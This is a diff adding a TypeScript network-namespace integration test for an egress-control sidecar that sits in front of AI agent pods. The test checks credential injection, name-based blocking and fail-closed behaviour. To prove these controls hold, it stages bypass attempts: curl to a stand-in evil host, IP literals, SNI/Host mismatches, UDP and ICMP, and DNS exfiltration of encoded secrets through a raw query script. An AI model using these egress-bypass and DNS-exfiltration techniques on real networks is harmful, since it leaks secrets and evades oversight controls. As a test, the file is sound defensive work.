@@ -1,0 +1,379 @@
+// Transparent capture (root, netns): an agent that ignores proxy settings gains nothing by it.
+// A real pod namespace with `airlock init` applied, the sidecar as UID 15000, agent commands as
+// UID 1000, and a world namespace holding real upstreams and a real DNS server (dnsmasq) whose own
+// log proves which names it was asked. THREATS.md I2, I3, I4, I5.
+import { expect } from "chai";
+import { execFile } from "node:child_process";
+import { chownSync, mkdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { AIRLOCK } from "./helpers/cli.ts";
+import {
+  background,
+  createPodWorld,
+  NODE,
+  requireNetnsPrerequisites,
+  scratchFile,
+  type Background,
+  type PodWorld,
+} from "./helpers/netns.ts";
+
+const SECRET = "transparent-secret-9f8e7d6c";
+const AGENT = 1000;
+const SIDECAR = 15000;
+
+interface Run {
+  code: number;
+  stdout: string;
+  stderr: string;
+}
+
+function run(args: string[], env: Record<string, string> = {}, timeoutMs = 15_000): Promise<Run> {
+  return new Promise((resolve) => {
+    execFile(
+      args[0] ?? "",
+      args.slice(1),
+      {
+        encoding: "utf8",
+        timeout: timeoutMs,
+        env: { PATH: "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", HOME: "/tmp", ...env },
+      },
+      (err, stdout, stderr) => {
+        resolve({ code: err ? (typeof err.code === "number" ? err.code : 1) : 0, stdout, stderr });
+      },
+    );
+  });
+}
+
+interface WorldRecord {
+  address: string;
+  port: number;
+  tls?: boolean;
+  udp?: boolean;
+  host?: string;
+  method?: string;
+  url?: string;
+  headers?: Record<string, string>;
+}
+
+describe("transparent capture (root, netns): agents that ignore proxy settings", function () {
+  this.timeout(60_000);
+  let pw: PodWorld;
+  let upstreams: Background;
+  let dnsmasq: Background;
+  let sidecar: Background;
+  // What before() has started, undone in reverse by after() even when before() failed midway.
+  const cleanups: (() => unknown)[] = [];
+  let bundle: string;
+  let sidecarArgs: string[];
+  const dnsLog = () => readFileSync(join(pw.dir, "dnsmasq.log"), "utf8");
+  const records = (): WorldRecord[] =>
+    upstreams
+      .output()
+      .split("\n")
+      .filter((l) => l.startsWith("{") && !l.includes('"ready"'))
+      .map((l) => JSON.parse(l) as WorldRecord);
+  const agentEnv = (): Record<string, string> => ({
+    CURL_CA_BUNDLE: bundle,
+    SSL_CERT_FILE: bundle,
+    REQUESTS_CA_BUNDLE: bundle,
+    GIT_SSL_CAINFO: bundle,
+    NODE_EXTRA_CA_CERTS: bundle,
+  });
+  const agent = (command: string[], groups: number[] = []) =>
+    run(pw.asUser(AGENT, command, groups), agentEnv());
+  const curl = (args: string[], groups: number[] = []) =>
+    agent(["curl", "-sS", "--max-time", "5", "-o", "-", "-w", "\n%{http_code}", ...args], groups);
+
+  before(async function () {
+    requireNetnsPrerequisites([
+      "ip",
+      "setpriv",
+      "iptables-restore",
+      "ip6tables-restore",
+      "dnsmasq",
+      "curl",
+      "git",
+      "python3",
+      "ping",
+    ]);
+    pw = createPodWorld(["10.77.1.10", "10.77.1.66"]);
+    cleanups.push(() => {
+      pw.destroy();
+    });
+    upstreams = await background(
+      pw.inWorld([
+        NODE,
+        join(import.meta.dirname, "fixtures/world-upstream.ts"),
+        "10.77.1.10",
+        "10.77.1.66",
+        pw.worldIp,
+        pw.worldIp6,
+      ]),
+      /"ready":true/,
+    );
+    cleanups.push(() => upstreams.stop());
+    const ready = upstreams
+      .output()
+      .split("\n")
+      .find((l) => l.includes('"ready"'));
+    const worldCa = (JSON.parse(ready ?? "{}") as { ca: string }).ca;
+    dnsmasq = await background(
+      pw.inWorld([
+        "dnsmasq",
+        "--keep-in-foreground",
+        "--no-resolv",
+        "--no-hosts",
+        "--bind-interfaces",
+        `--listen-address=${pw.worldIp}`,
+        "--user=root",
+        `--pid-file=${join(pw.dir, "dnsmasq.pid")}`,
+        "--log-queries",
+        `--log-facility=${join(pw.dir, "dnsmasq.log")}`,
+        "--address=/api.example.test/10.77.1.10",
+        "--address=/registry.example.test/10.77.1.10",
+        "--address=/evil.example.test/10.77.1.66",
+      ]),
+    );
+    cleanups.push(() => dnsmasq.stop());
+    const worldCaPath = scratchFile(pw, "world-ca.pem", worldCa);
+    const policy = scratchFile(
+      pw,
+      "policy.yaml",
+      `apiVersion: airlock.dev/v1alpha1
+kind: EgressPolicy
+metadata: {name: agent, namespace: agents}
+spec:
+  podSelector: {}
+  egress:
+    - {name: api, hosts: [api.example.test], credential: api}
+    - {name: registry, hosts: [registry.example.test]}
+---
+apiVersion: airlock.dev/v1alpha1
+kind: Credential
+metadata: {name: api, namespace: agents}
+spec:
+  secretRef: {name: api, key: token}
+  injection: {header: {name: Authorization, valuePrefix: "Bearer "}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {name: api, namespace: agents}
+stringData: {token: ${SECRET}}
+`,
+    );
+    const trustDir = join(pw.dir, "trust");
+    mkdirSync(trustDir, { mode: 0o755 });
+    chownSync(trustDir, SIDECAR, SIDECAR);
+    const init = await run(pw.inPod([AIRLOCK, "init"]));
+    expect(init.code, `airlock init failed:\n${init.stderr}`).to.equal(0);
+    sidecarArgs = pw.asUser(SIDECAR, [
+      AIRLOCK,
+      "sidecar",
+      "--policy",
+      policy,
+      "--trust-bundle",
+      join(trustDir, "ca-bundle.pem"),
+      "--upstream-ca",
+      worldCaPath,
+      "--allow-address",
+      "10.77.1.10/32",
+      "--metrics",
+      "127.0.0.1:15090",
+    ]);
+    sidecar = await background(sidecarArgs, /listening on/);
+    cleanups.push(() => sidecar.stop());
+    // The agent trusts the pod's bundle; the world's CA stands in for a public CA.
+    bundle = scratchFile(
+      pw,
+      "agent-bundle.pem",
+      readFileSync(join(trustDir, "ca-bundle.pem"), "utf8") + worldCa,
+    );
+  });
+
+  after(async function () {
+    for (const cleanup of cleanups.reverse()) await cleanup();
+  });
+
+  it("curl: inject over HTTPS attaches the credential at the boundary; the agent never sees it", async function () {
+    const before = records().length;
+    const res = await curl(["https://api.example.test/v1/me"]);
+    expect(res.stdout, res.stderr).to.match(/\n200$/);
+    expect(res.stdout).not.to.include(SECRET);
+    const got = records().slice(before);
+    expect(got).to.have.length(1);
+    expect(got[0]).to.include({ address: "10.77.1.10", port: 443, url: "/v1/me" });
+    expect(got[0]?.headers?.authorization).to.equal(`Bearer ${SECRET}`);
+  });
+
+  it("curl: allow over HTTPS (passthrough) and HTTP, with no credential", async function () {
+    const before = records().length;
+    expect((await curl(["https://registry.example.test/pkg"])).stdout).to.match(/\n200$/);
+    expect((await curl(["http://registry.example.test/pkg"])).stdout).to.match(/\n200$/);
+    const got = records().slice(before);
+    expect(got.map((r) => r.port)).to.deep.equal([443, 80]);
+    for (const r of got) expect(r.headers?.authorization).to.equal(undefined);
+  });
+
+  it("curl: a name no rule allows is blocked, whatever address the agent dials", async function () {
+    const before = records().length;
+    const tls = await curl(["--resolve", "evil.example.test:443:10.77.1.66", "https://evil.example.test/"]);
+    expect(tls.code).to.not.equal(0);
+    const plain = await curl(["--resolve", "evil.example.test:80:10.77.1.66", "http://evil.example.test/"]);
+    expect(plain.stdout).to.match(/NoRuleMatched[\s\S]*\n403$/);
+    expect(records().slice(before)).to.deep.equal([]);
+  });
+
+  it("python3 urllib, git over HTTPS and Node fetch get the same outcomes", async function () {
+    const before = records().length;
+    const py = await agent([
+      "python3",
+      "-c",
+      "import urllib.request,sys;r=urllib.request.urlopen(sys.argv[1]);print(r.status);print(r.read().decode())",
+      "https://api.example.test/py",
+    ]);
+    expect(py.stdout, py.stderr).to.match(/^200/);
+    expect(py.stdout).not.to.include(SECRET);
+    // The echo upstream is no git server; what matters is what git's request carried upstream.
+    await agent(["git", "ls-remote", "https://api.example.test/repo.git"]);
+    const fetchOut = await agent([
+      NODE,
+      "--input-type=module",
+      "-e",
+      "const r = await fetch('https://registry.example.test/node'); console.log(r.status)",
+    ]);
+    expect(fetchOut.stdout.trim(), fetchOut.stderr).to.equal("200");
+    const got = records().slice(before);
+    const pyRecord = got.find((r) => r.url === "/py");
+    expect(pyRecord?.headers?.authorization).to.equal(`Bearer ${SECRET}`);
+    const gitRecord = got.find((r) => r.url?.startsWith("/repo.git/info/refs"));
+    expect(gitRecord?.headers?.authorization).to.equal(`Bearer ${SECRET}`);
+    expect(got.find((r) => r.url === "/node")?.headers?.authorization).to.equal(undefined);
+  });
+
+  it("attacks: IP literals, an allowed SNI sent to another address, Host differing from SNI", async function () {
+    const before = records().length;
+    const literalTls = await curl(["-k", "https://10.77.1.10/"]);
+    expect(literalTls.code).to.not.equal(0);
+    const literalHttp = await curl(["http://10.77.1.10/"]);
+    expect(literalHttp.stdout).to.match(/\n403$/);
+    // The agent points an allowed name at the attacker's address: the sidecar dials what it resolved.
+    const steered = await curl([
+      "--resolve",
+      "registry.example.test:443:10.77.1.66",
+      "https://registry.example.test/steer",
+    ]);
+    expect(steered.stdout).to.match(/\n200$/);
+    const mismatch = await curl(["-H", "Host: registry.example.test", "https://api.example.test/x"]);
+    expect(mismatch.stdout).to.match(/HostMismatch[\s\S]*\n403$/);
+    const got = records().slice(before);
+    expect(got.map((r) => `${r.address} ${r.url ?? ""}`)).to.deep.equal(["10.77.1.10 /steer"]);
+  });
+
+  it("attacks: IPv6, UDP (QUIC-like and DNS to the world's resolver), ICMP", async function () {
+    const before = records().length;
+    const v6 = await curl(["-g", `http://[${pw.worldIp6}]/`]);
+    expect(v6.stdout).not.to.match(/\n200$/);
+    const udp = await agent([
+      "python3",
+      "-c",
+      `import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry:\n  s.sendto(b'\\x40quic-initial',('${pw.worldIp}',4433))\nexcept OSError as e:\n  print(e)`,
+    ]);
+    expect(udp.code).to.equal(0);
+    const ping = await agent(["ping", "-c", "1", "-W", "1", pw.worldIp]);
+    // 1 = sent, no reply (the capture rules dropped it); 2 would be an error before sending.
+    expect(ping.code, ping.stderr).to.equal(1);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(records().slice(before)).to.deep.equal([]);
+    // A DNS query straight to the world's resolver is captured; the resolver never sees the name.
+    const dig = await agent(["python3", "-c", DNS_QUERY, pw.worldIp, "c2VjcmV0.exfil.example.test"]);
+    expect(dig.stdout.trim()).to.equal("rcode=3");
+    expect(dnsLog()).not.to.include("exfil");
+  });
+
+  it("DNS: allowed names resolve through the sidecar; others are NXDOMAIN and never leave the pod", async function () {
+    const allowed = await agent([
+      "python3",
+      "-c",
+      "import socket;print(socket.gethostbyname('api.example.test'))",
+    ]);
+    expect(allowed.stdout.trim()).to.equal("10.77.1.10");
+    const denied = await agent([
+      "python3",
+      "-c",
+      "import socket;socket.gethostbyname('leak-token-123.evil.example.test')",
+    ]);
+    expect(denied.code).to.not.equal(0);
+    expect(dnsLog()).to.include("api.example.test");
+    expect(dnsLog()).not.to.include("leak-token-123");
+  });
+
+  it("the control port is closed to the agent, also with the sidecar's GID as a supplementary group", async function () {
+    // A stand-in control server on the control port, run as the sidecar's UID: only that UID reaches it.
+    const control = await background(
+      pw.asUser(SIDECAR, [
+        "/usr/bin/python3",
+        "-m",
+        "http.server",
+        "15443",
+        "--bind",
+        "127.0.0.1",
+        "--directory",
+        pw.dir,
+      ]),
+      /Serving HTTP/,
+    );
+    try {
+      const asSidecar = await run(
+        pw.asUser(SIDECAR, [
+          "curl",
+          "-sS",
+          "-o",
+          "/dev/null",
+          "-w",
+          "%{http_code}",
+          "http://127.0.0.1:15443/",
+        ]),
+      );
+      expect(asSidecar.stdout).to.equal("200");
+      for (const groups of [[], [SIDECAR]]) {
+        const res = await curl(["http://127.0.0.1:15443/"], groups);
+        expect(res.code, `groups ${groups.join(",")}`).to.not.equal(0);
+        expect(res.stdout).to.match(/\n000$/);
+      }
+      const withGid = await curl(["http://10.77.1.10/"], [SIDECAR]);
+      expect(withGid.stdout).to.match(/\n403$/);
+    } finally {
+      await control.stop();
+    }
+  });
+
+  it("fail closed: with the sidecar stopped the agent reaches nothing; a restart restores service", async function () {
+    await sidecar.stop();
+    const before = records().length;
+    const down = await curl([
+      "--resolve",
+      "registry.example.test:443:10.77.1.10",
+      "https://registry.example.test/down",
+    ]);
+    expect(down.code).to.not.equal(0);
+    expect(records().slice(before)).to.deep.equal([]);
+    sidecar = await background(sidecarArgs, /listening on/);
+    bundle = scratchFile(
+      pw,
+      "agent-bundle.pem",
+      readFileSync(join(pw.dir, "trust/ca-bundle.pem"), "utf8") +
+        readFileSync(join(pw.dir, "world-ca.pem"), "utf8"),
+    );
+    const up = await curl(["https://api.example.test/again"]);
+    expect(up.stdout).to.match(/\n200$/);
+  });
+});
+
+/** A raw DNS A query over UDP to argv[1]:53 for argv[2]; prints the response code. */
+const DNS_QUERY = `import socket,struct,sys
+q=struct.pack('>HHHHHH',0x1234,0x0100,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in sys.argv[2].split('.'))+b'\\x00'+struct.pack('>HH',1,1)
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3);s.sendto(q,(sys.argv[1],53))
+try:
+  r,_=s.recvfrom(4096);print('rcode=%d'%(r[3]&15))
+except socket.timeout:
+  print('timeout')`;
